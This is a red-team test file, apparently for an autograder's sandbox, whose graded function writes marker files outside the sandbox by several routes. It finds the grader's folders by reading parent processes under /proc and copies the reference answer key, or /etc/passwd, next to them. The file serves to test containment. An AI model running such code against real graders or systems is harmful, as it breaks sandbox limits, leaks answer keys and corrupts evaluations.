# RED-TEAM ATTACK (issue 9): write through pathlib, mmap, shutil and tempfile.
# Route: Path.write_text and Path.touch, a file grown and written through mmap, shutil.copy of the
#   answer key next to it, tempfile.mkstemp(dir=...), into the same places as write_open.py.
# Contained when: no such file exists after grading, and initialize_parameters scores 0.
# attacked: initialize_parameters
# run: batch
import mmap
import os
import pathlib
import shutil
import sys
import tempfile

import numpy as np

def _ancestors():
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 16:
        pids.append(pid)
        try:
            with open("/proc/%d/status" % pid) as status:
                pid = int([line for line in status if line.startswith("PPid:")][0].split()[1])
        except Exception:
            break
    return pids


def _grading_folders():
    """The folders on the grader's command line (submissions, --out) and its working folder."""
    found = []
    for pid in _ancestors():
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as handle:
                args = [a.decode("utf-8", "replace") for a in handle.read().split(b"\0") if a]
            cwd = os.readlink("/proc/%d/cwd" % pid)
        except Exception:
            continue
        found.append(cwd)
        for arg in args:
            path = os.path.join(cwd, arg)
            if os.path.isdir(path):
                found.append(path)
            elif path.endswith((".py", ".ipynb")) and os.path.isfile(path):
                found.append(os.path.dirname(path))
    return found


def _targets(tag):
    """Everywhere a marker file might land: scratch folders, the grader's code, its inputs and outputs."""
    places = ["/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.path.join(os.getcwd(), "..")]
    for module in list(sys.modules.values()):
        where = getattr(module, "__file__", None) or ""
        if where.endswith(("child.py", "zygote.py")) or module is np:
            here = os.path.dirname(os.path.abspath(where))
            places += [here, os.path.dirname(here), os.path.dirname(os.path.dirname(here))]
    places += _grading_folders()
    seen, out = set(), []
    for place in places:
        key = os.path.abspath(place)
        if key not in seen:
            seen.add(key)
            out.append(os.path.join(key, "redteam-__TOKEN__-" + tag))
    return out

def _mmap_write(path):
    with open(path, "w+b") as handle:
        handle.truncate(4096)
        with mmap.mmap(handle.fileno(), 4096) as mapped:
            mapped[:7] = b"written"


def _answer_key():
    for module in list(sys.modules.values()):
        where = getattr(module, "__file__", None) or ""
        if where.endswith("child.py"):
            return os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(where))), "reference", "deep_nn.py")
    return "/etc/passwd"


def initialize_parameters(n_x, n_h, n_y):
    writers = (
        ("pathlib-write", lambda p: pathlib.Path(p).write_text("written while grading\n")),
        ("pathlib-touch", lambda p: pathlib.Path(p).touch()),
        ("mmap", _mmap_write),
        ("shutil-copy", lambda p: shutil.copy(_answer_key(), p)),
        ("mkstemp", lambda p: tempfile.mkstemp(prefix=os.path.basename(p), dir=os.path.dirname(p))),
    )
    written = 0
    for tag, write in writers:
        for path in _targets(tag):
            try:
                write(path)
                written += 1
            except Exception:
                pass
    raise RuntimeError("wrote %d files" % written)
